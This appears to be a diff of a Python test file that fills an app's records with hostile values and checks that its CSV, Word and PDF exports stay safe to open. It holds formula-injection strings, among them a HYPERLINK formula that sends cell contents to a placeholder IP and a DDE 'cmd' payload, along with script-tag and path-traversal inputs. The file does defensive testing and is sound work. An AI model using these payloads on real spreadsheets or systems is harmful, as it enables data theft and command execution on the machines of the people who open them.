@@ -11,42 +11,39 @@ import pkgutil
 import re
 import zipfile
 from collections.abc import Callable, Iterator, Mapping
+from contextlib import closing
 from dataclasses import fields, is_dataclass, replace
-from functools import cache
+from datetime import date
+from functools import cache, partial
 from pathlib import Path
 
 import pytest
+from lxml.etree import fromstring
 from openpyxl import load_workbook
 
 import app.services
 from app.access.actor import COMMAND_LINE
+from app.indicators.periods import Period
 from app.library import Library
 from app.library.plans import PlanLibrary
 from app.services.back_up import back_up
 from app.services.by_hand import hand_overs
 from app.services.crisis_bag_scene import read_scene
 from app.services.crisis_bag_sections import bag_of
+from app.services.fill_template import fill_template
 from app.services.hand_out_links import hand_out_links
 from app.services.pack_crisis_bag import pack_crisis_bag
+from app.services.print_own_plan import own_plan_docx, own_plan_pdf, own_plan_zip
 from app.services.read_indicators import read_indicators
 from app.services.read_own_data import read_own_data
 from app.services.write_log import write_log
 from app.store import centres, community, messages, people
+from app.store.database import Connection, Store, connect
+from tests.abuse.a_trap import CLIMBS, FORMULAS, MARKUP, SCRIPT, a_trap, first_id
+from tests.documents.printed import text_of
 from tests.services.a_month import WEEK, Month, a_month
 
 APP = Path(app.services.__file__).parents[1]
-FORMULAS = (
-    '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "\t=1+1",
-    " ＝1+1",
-    "\u200b=1+1",
-)
-SCRIPT = "<script>alert(1)</script>"
-CLIMBS = "../../x\\..\\y"
-
 NOT_A_FILE = frozenset(
     {
         "app.services.remote_calendar.fetch_calendar",
@@ -71,7 +68,9 @@ def month(tmp_path_factory: pytest.TempPathFactory) -> Month:
         )
         for number, person in enumerate(people.every(conn)):
             named = replace(
-                person, family_name=f"{FORMULAS[number % 7]}{SCRIPT}", given_name=f"{FORMULAS[-number % 7]}{CLIMBS}"
+                person,
+                family_name=f"{FORMULAS[number % 7]}{SCRIPT}",
+                given_name=f"{FORMULAS[-number % 7]}{CLIMBS}",
             )
             people.put(conn, named, made.store.now())
         centre = centres.find(conn, made.centre)
@@ -79,6 +78,7 @@ def month(tmp_path_factory: pytest.TempPathFactory) -> Month:
         centres.update(conn, replace(centre, name=f"{FORMULAS[0]}{CLIMBS}{SCRIPT}"))
         conn.execute("UPDATE partner SET name = ?", (f"{FORMULAS[3]}{SCRIPT}",))
     made.close()
+    a_trap(made.store)
     for formula in FORMULAS:
         write_log(COMMAND_LINE, made.store, f"{formula.strip()} {SCRIPT}", source=formula.strip())
     pack_crisis_bag(COMMAND_LINE, made.store)
@@ -113,7 +113,7 @@ def _plans() -> PlanLibrary:
     return Library().plans
 
 
-def _given(month: Month) -> dict[str, Callable[[], object]]:
+def _given(month: Month, conn: Connection) -> dict[str, Callable[[], object]]:
     """What exports ask for, by the parameter's name or by its type as annotated."""
     store, person = month.store, month.id("Corentin")
 
@@ -128,6 +128,8 @@ def _given(month: Month) -> dict[str, Callable[[], object]]:
     return {
         "actor": lambda: COMMAND_LINE,
         "store": lambda: store,
+        "Connection": lambda: conn,
+        "now": store.now,
         "centre_id": lambda: month.centre,
         "session_id": lambda: month.sessions[0].id,
         "person_id": lambda: person,
@@ -149,15 +151,39 @@ def _given(month: Month) -> dict[str, Callable[[], object]]:
         "Iterable[HandOver]": lambda: hand_overs(COMMAND_LINE, store, queued(), ""),
         "ids": queued,
         "CrisisBag": the_bag,
+        "take_letters.ids": lambda: [first_id(conn, "partner_letter")],
+        "crisis_files.period": lambda: Period(date(2026, 1, 1), date(2027, 12, 31)),
+        "table.name": lambda: "x.csv",
+        "table.about": lambda: FORMULAS[0],
+        "Sequence[str]": lambda: FORMULAS,
+        "Sequence[Row]": lambda: [FORMULAS, tuple(f" {formula}" for formula in FORMULAS)],
         "print_plan.slug": lambda: next(iter(_plans().sheets)),
         "print_card.slug": lambda: next(iter(_plans().cards)),
+        **_rows(conn),
+        **_templates(store),
     }
+
+
+def _rows(conn: Connection) -> dict[str, Callable[[], object]]:
+    """The first row of what a crisis leaves, where there is one."""
+    tables = ("event", "alert", "publication", "training")
+    found = {f"{table}_id": first_id(conn, table) for table in tables} | {
+        "report_id": first_id(conn, "situation_report")
+    }
+    return {name: partial(str, id) for name, id in found.items() if id}
+
+
+def _templates(store: Store) -> dict[str, Callable[[], object]]:
+    """The first template of the site, where there is one."""
+    found = sorted(path.stem for path in (store.folder.content / "templates").glob("*.docx"))
+    return {f"{name}.name": partial(str, found[0]) for name in ("fill_template", "starting_places") if found}
 
 
 def made_by(export: Callable[..., object], month: Month) -> object:
     """What an export makes; parameters with a default are left at it."""
-    given = _given(month)
-    return export(**{name: make() for name, make in _wanted(export, given).items() if make is not None})
+    with closing(connect(month.store.folder.database)) as conn:
+        given = _given(month, conn)
+        return export(**{name: make() for name, make in _wanted(export, given).items() if make is not None})
 
 
 def _wanted(
@@ -172,9 +198,10 @@ def _wanted(
 
 
 def walked(month: Month) -> dict[str, Callable[..., object]]:
-    """The exports that this walk knows how to call."""
-    given = _given(month)
-    return {name: export for name, export in exports().items() if None not in _wanted(export, given).values()}
+    """The exports that this walk knows how to call on that folder."""
+    with closing(connect(month.store.folder.database)) as conn:
+        given = _given(month, conn)
+        return {name: export for name, export in exports().items() if None not in _wanted(export, given).values()}
 
 
 def files_in(made: object) -> Iterator[bytes]:
@@ -213,9 +240,17 @@ def _of_archive(content: bytes, where: str) -> Iterator[str]:
         elif not any(name.startswith("word/") for name in names):
             for name in (one for one in names if not one.endswith(".txt")):
                 yield from dangers(archive.read(name), f"{where}/{name}")
+        for name in (one for one in names if re.fullmatch(r"word/\w+\.xml", one)):
+            fields = "".join(fromstring(archive.read(name)).itertext(INSTRUCTION)).split()
+            yield from (f"{where}/{name}: field {word!r}" for word in fields if word not in OUR_FIELDS)
         for name in names:
             if name.endswith(".rels") and b'TargetMode="External"' in archive.read(name):
                 yield f"{where}: leads elsewhere, {name}"
+
+
+INSTRUCTION = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}instrText"
+OUR_FIELDS = frozenset({"TOC", "\\o", '"1-1"', "\\h", "\\z", "\\u", "PAGE", "NUMPAGES"})
+"""What our own documents ask a word processor to compute: the table of contents and the page."""
 
 
 def _formulas(content: bytes, where: str) -> Iterator[str]:
@@ -244,7 +279,8 @@ def test_no_export_harms_whoever_opens_it(name: str, month: Month) -> None:
 
     An export that asks for something new fails here until :func:`_given` says how to make it.
     """
-    missing = [wanted for wanted, make in _wanted(exports()[name], _given(month)).items() if make is None]
+    with closing(connect(month.store.folder.database)) as conn:
+        missing = [wanted for wanted, make in _wanted(exports()[name], _given(month, conn)).items() if make is None]
     assert missing == [], "say in _given how to make it"
     made = list(files_in(made_by(exports()[name], month)))
     assert made
@@ -259,6 +295,28 @@ def test_the_traps_are_in_the_exports(month: Month) -> None:
     held = log_csv(COMMAND_LINE, month.store).decode("utf-8-sig")
     assert "'=HYPERLINK" in held
     assert list(dangers(b"\xef\xbb\xbf" + b"a;=1+1\r\n")) == [": cell '=1+1'"]
+
+
+@cache
+def _words(content: bytes) -> str:
+    if content.startswith(b"%PDF"):
+        return text_of(content)
+    return "\n".join(fromstring(zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml")).itertext())
+
+
+def test_a_plan_made_of_traps_opens_and_says_them(month: Month) -> None:
+    """Every text, every remark: printed as it was typed, marks of a template and of a typesetter included; no sign dropped
+    but those that no file holds."""
+    with zipfile.ZipFile(io.BytesIO(own_plan_zip(COMMAND_LINE, month.store))) as pack:
+        files = {name: pack.read(name) for name in pack.namelist()}
+    papers = [one for name, one in files.items() if name.endswith((".docx", ".pdf"))]
+    assert len(papers) > 3
+    for held in (own_plan_docx(COMMAND_LINE, month.store), fill_template(COMMAND_LINE, month.store, "ars").content):
+        said = _words(held)
+        assert MARKUP in said
+        assert SCRIPT in said
+        assert not any(sign in said for sign in "\uffff\x0b\x00\x1b")
+    assert '#panic("typst")' in _words(own_plan_pdf(COMMAND_LINE, month.store)).replace("\n", "")
 
 
 def test_tables_are_written_in_one_place_only() -> None:
